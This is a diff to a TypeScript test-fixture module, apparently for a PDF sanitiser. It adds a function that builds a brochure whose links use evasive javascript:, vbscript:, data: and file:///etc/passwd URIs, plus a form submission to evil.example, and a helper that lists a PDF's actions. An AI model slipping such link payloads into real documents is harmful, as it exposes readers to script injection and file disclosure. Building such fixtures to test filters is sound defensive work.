@@ -5,7 +5,18 @@ import { mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
-import { PDFDocument, PDFName, PDFRawStream, PDFString, StandardFonts } from 'pdf-lib';
+import {
+  PDFArray,
+  PDFDict,
+  PDFDocument,
+  PDFHexString,
+  PDFName,
+  type PDFObject,
+  PDFRawStream,
+  PDFStream,
+  PDFString,
+  StandardFonts,
+} from 'pdf-lib';
 
 /** A PDF of `pages` A4 pages, each saying which it is (and `label`). */
 export async function makePdf(pages = 3, label = 'Brochure'): Promise<Uint8Array> {
@@ -91,6 +102,77 @@ export async function makeActivePdf(): Promise<Uint8Array> {
   // An embedded file (the name tree's EmbeddedFiles).
   await doc.attach(Buffer.from('MZ not really a program'), 'setup.exe', { mimeType: 'application/octet-stream' });
   return doc.save({ useObjectStreams: false });
+}
+
+/**
+ * A brochure whose links try every way of naming a scheme that is not a web page or a mail
+ * address (issue 41): `javascript:` as written, hex-encoded, UTF-16, upper case, behind
+ * control characters and a tab, `file:` and `data:`, chained after a harmless link, as the
+ * opening action; GoToR, ImportData and SubmitForm; and a catalog base URI of `javascript:`.
+ * Three honest links (https, http, mailto) must survive.
+ */
+export const WEB_LINKS = ['https://www.example.jp/', 'http://example.com/a', 'mailto:info@example.jp'];
+export async function makeLinkTricksPdf(): Promise<Uint8Array> {
+  const doc = await PDFDocument.create();
+  const page = doc.addPage([595, 842]);
+  const { context } = doc;
+  const uri = (target: PDFObject, next?: PDFObject) =>
+    context.obj({ Type: 'Action', S: 'URI', URI: target, ...(next ? { Next: next } : {}) });
+  const js = 'javascript:app.alert(1)';
+  const hex = (text: string) => PDFHexString.of(Buffer.from(text, 'latin1').toString('hex'));
+  const actions: PDFObject[] = [
+    uri(PDFString.of(js)),
+    uri(hex(js)),
+    uri(PDFHexString.fromText(js)),
+    uri(PDFString.of('JAVASCRIPT:app.alert(2)')),
+    uri(hex(` 	${js}`)),
+    uri(hex('java	script:app.alert(3)')),
+    uri(PDFString.of('file:///etc/passwd')),
+    uri(PDFString.of('data:text/html,<script>alert(4)</script>')),
+    uri(PDFString.of('vbscript:msgbox(5)')),
+    uri(PDFString.of(WEB_LINKS[0] as string), uri(PDFString.of(js))),
+    context.obj({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, PDFName.of('Fit')] }),
+    context.obj({ S: 'ImportData', F: PDFString.of('data.fdf') }),
+    context.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://evil.example/') } }),
+    uri(PDFString.of(WEB_LINKS[1] as string)),
+    uri(PDFString.of(WEB_LINKS[2] as string)),
+  ];
+  const annots = actions.map((action, i) =>
+    context.register(
+      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [60, 800 - i * 40, 300, 830 - i * 40], A: action }),
+    ),
+  );
+  page.node.set(PDFName.of('Annots'), context.obj(annots));
+  doc.catalog.set(PDFName.of('OpenAction'), context.register(uri(PDFString.of(js))));
+  doc.catalog.set(PDFName.of('URI'), context.obj({ Base: PDFString.of('javascript:') }));
+  return doc.save({ useObjectStreams: false });
+}
+
+const pdfText = (value: PDFObject | undefined): string | null => {
+  if (!(value instanceof PDFString || value instanceof PDFHexString)) return null;
+  const bytes = value.asBytes();
+  return bytes[0] === 0xfe && bytes[1] === 0xff
+    ? new TextDecoder('utf-16be').decode(bytes.subarray(2))
+    : Buffer.from(bytes).toString('latin1');
+};
+
+/** Every action in the file (a dictionary with /S), and whether the catalog has a base URI. */
+export async function pdfActions(pdf: Uint8Array) {
+  const doc = await PDFDocument.load(pdf, { updateMetadata: false });
+  const actions: { type: string; uri: string | null }[] = [];
+  const seen = new Set<PDFObject>();
+  const visit = (object: PDFObject | undefined) => {
+    if (!object || seen.has(object)) return;
+    seen.add(object);
+    if (object instanceof PDFArray) return object.asArray().forEach(visit);
+    const dict = object instanceof PDFStream ? object.dict : object instanceof PDFDict ? object : null;
+    if (!dict) return;
+    const type = dict.get(PDFName.of('S'));
+    if (type instanceof PDFName) actions.push({ type: type.decodeText(), uri: pdfText(dict.get(PDFName.of('URI'))) });
+    for (const [, value] of dict.entries()) visit(value);
+  };
+  for (const [, object] of doc.context.enumerateIndirectObjects()) visit(object);
+  return { actions, base: doc.catalog.has(PDFName.of('URI')) };
 }
 
 /** `pages` bare pages packed in object streams: 3,000 of them fit in well under 1 MB. */
